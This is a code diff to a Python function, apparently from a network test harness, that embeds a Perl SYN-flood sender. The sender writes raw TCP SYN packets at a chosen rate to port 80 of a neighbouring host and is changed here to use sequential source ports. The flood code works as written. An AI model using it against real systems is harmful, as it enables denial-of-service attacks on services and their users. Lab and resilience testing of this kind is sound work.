@@ -33,12 +33,12 @@ sub words { my $sum = 0; $sum += $_ for unpack "n*", shift; $sum }
 } @kinds;
 socket my $raw, AF_INET, SOCK_RAW, 6 or die "socket: $!";
 connect $raw, pack_sockaddr_in 0, inet_aton $to or die "connect: $!";
-my ($began, $sent, $over) = (time, 0, 0);
+my ($began, $port, $sent, $over) = (time, int rand 64000, 0, 0);
 $SIG{INT} = sub { $over = 1 };
 while (!$over and (my $now = time) < $began + $seconds) {
   for (1 .. ($now - $began) * $rate - $sent) {
     my ($flags, $options, $sum) = @{$kinds[rand @kinds]};
-    my $start = pack "nnNN", 1024 + rand 64000, 80, rand 2 ** 32, 0;
+    my $start = pack "nnNN", 1024 + $port++ % 64000, 80, rand 2 ** 32, 0;
     $sum += words $start;
     $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
     send $raw, $start . $flags . pack("nn", ~$sum & 0xffff, 0) . $options, 0;
@@ -53,7 +53,8 @@ print "$sent\n"' """
 def flood(machine: Shell, host: str, *, dice: Random, rate: int, seconds: int) -> int:
     """Send `rate` SYNs a second to port 80 of a neighbour, until `end` or for `seconds`.
 
-    Return how many were sent. Each flood draws how its SYNs look: like those of two systems.
+    Return how many were sent. Each flood draws how its SYNs look: like those of two systems. Their
+    ports follow each other, so it can hold at most 64,000 connections half open.
     Raises CannotRun, before anything is sent, if the route to `host` leads through a router.
     """
     address, own = hping3.neighbour(machine, host)
